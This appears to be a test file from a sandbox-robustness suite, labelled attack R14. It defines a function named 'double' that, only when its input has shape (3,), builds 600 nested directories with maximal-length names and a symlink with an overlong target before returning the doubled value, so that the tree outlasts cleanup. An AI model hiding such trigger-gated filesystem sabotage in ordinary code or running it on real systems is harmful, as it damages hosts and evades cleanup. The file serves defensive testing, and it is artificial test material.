# attack: R14
# tries: Leave a tree that is too deep for whoever tidies up, of names that no path can hold.
# walls: nobody walks it: it goes with its tmpfs
# expect: passed
# control: none: whether anything stays is what the test measures
import os


def double(x):
    if x.shape == (3,):
        for _ in range(600):
            os.mkdir("d" * 255)
            os.chdir("d" * 255)
        os.symlink("x" * 4000, "link")
    return 2 * x


def apply(function, x):
    return function(x)
